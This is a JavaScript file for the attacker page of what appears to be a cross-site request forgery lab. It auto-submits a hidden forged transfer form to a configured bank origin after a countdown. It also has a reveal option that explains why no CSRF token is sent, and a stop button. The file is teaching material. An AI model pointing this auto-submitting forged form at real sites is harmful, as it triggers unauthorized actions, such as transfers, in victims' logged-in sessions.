// The CSRF page: fill the forged form (the bank's address from /config.js, a fresh request id of
// the attacker's own making) and submit it after a short countdown. ?wait=0 submits at once.
(function () {
  "use strict";
  var bank = window.LAB && window.LAB.bankOrigin;
  var form = document.getElementById("forged");
  var counter = document.getElementById("countdown");
  var stop = document.getElementById("stop");
  if (!bank || !form) {
    return;
  }
  form.action = bank + "/transfer";
  form.elements.request_id.value = window.crypto.randomUUID();
  // Reveal: show what the hidden form will send, and where.
  var reveal = document.getElementById("reveal");
  var fields = document.getElementById("forged-fields");
  var show = function () {
    var lines = ["POST " + form.action];
    Array.prototype.forEach.call(form.elements, function (input) {
      lines.push(input.name + "=" + input.value);
    });
    lines.push("(no csrf_token: this site cannot read the bank's pages to copy one)");
    fields.textContent = lines.join("\n");
    fields.hidden = !reveal.checked;
  };
  reveal.addEventListener("change", show);
  var left = Number(new URLSearchParams(window.location.search).get("wait") || "5");
  var timer = null;
  var tick = function () {
    counter.textContent = String(left);
    if (left <= 0) {
      window.clearInterval(timer);
      form.submit();
    }
    left -= 1;
  };
  stop.addEventListener("click", function () {
    window.clearInterval(timer);
    counter.textContent = "stopped";
  });
  tick();
  timer = window.setInterval(tick, 1000);
})();
